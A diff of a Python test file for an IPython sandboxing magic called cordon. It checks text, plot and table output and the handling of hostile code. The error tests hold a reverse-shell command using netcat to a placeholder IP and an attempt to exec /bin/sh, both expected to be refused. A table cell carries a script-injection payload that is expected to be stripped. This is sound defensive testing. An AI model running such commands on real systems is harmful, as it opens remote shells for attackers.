@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: MIT
-"""The magic in a real IPython: text, plots, tables, errors; and what a program would like to put there."""
+"""%%cordon in a real IPython: text, plots, tables, errors, and hostile output."""
 import os
 import unittest
 
@@ -25,11 +25,12 @@ class Magic(Case):
 
     def cell(self, code, line=""):
         with capture_output() as seen:
-            self.shell.run_cell_magic("cordon", f"--tier {TIER} --user {line}", code)
+            origin = "" if "--exposed" in line else "--user"
+            self.shell.run_cell_magic("cordon", f"--tier {TIER} {origin} {line}", code)
         return seen
 
     def test_text(self):
-        """what is printed, and the value of the last line"""
+        """output and the value of the last line are shown"""
         seen = self.cell("import sys\nprint('h\u00e9')\nprint('no newline', end='')\nprint('oh', file=sys.stderr)\n(6 *\n 7)")
         self.assertEqual((seen.stdout, seen.stderr), ("h\u00e9\nno newline", "oh\n"))
         self.assertEqual([o.data for o in seen.outputs], [{"text/plain": "42"}])
@@ -37,7 +38,7 @@ class Magic(Case):
         self.assertIn("line 3", seen.stderr)
 
     def test_plots(self):
-        """plots are pictures, tables are tables"""
+        """plots are shown as pictures, tables as tables"""
         seen = self.cell("import matplotlib.pyplot as plt\nimport pandas as pd\nplt.plot([1, 2]); plt.figure(); plt.plot([2, 1])\n"
                          "pd.DataFrame({'a': [1, 2], '<b>': ['x', '<script>alert(1)</script>']})", "--time 60s --memory 1G")
         kinds = [sorted(o.data) for o in seen.outputs]
@@ -48,16 +49,16 @@ class Magic(Case):
         self.assertNotIn("<script", table)
 
     def test_hostile(self):
-        """a program that writes such lines itself shows no more than a text, a picture or a table"""
+        """a program that forges a marked line can only show a text, a picture or a table"""
         seen = self.cell("import re\nmark = re.search('cordon-[0-9a-f]+:', open(__file__).read()).group()\n"
                          "for item in ('{\"png\": \"PHN2Zz4=\"}', '{\"html\": \"<b>\"}', '[]', '{', '{\"png\": 1}', '{\"text\": \"<b>x\"}'):\n print(mark + item)")
         self.assertEqual([o.data for o in seen.outputs], [{"text/plain": "<b>x"}])
         self.assertEqual(seen.stdout.count("\n"), 5)
 
     def test_errors(self):
-        """refusals, limits and wrong words are told in Cordon's words"""
+        """refusals, limits and wrong options are shown with the text of Cordon"""
         self.assertIn("CORDON-2026-0001", self.cell("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')", "--exposed").stderr)
         self.assertIn("time", self.cell("while True: pass", "--time 300ms").stderr)
-        self.assertIn("is no option", self.cell("1", "nonsense").stderr)
+        self.assertIn("is not an option", self.cell("1", "nonsense").stderr)
         self.assertIn("cordon: ", self.cell("1 +").stderr)
         self.assertIn("refused: execve", self.cell("import os\nos.execv('/bin/sh', ['sh'])").stderr)
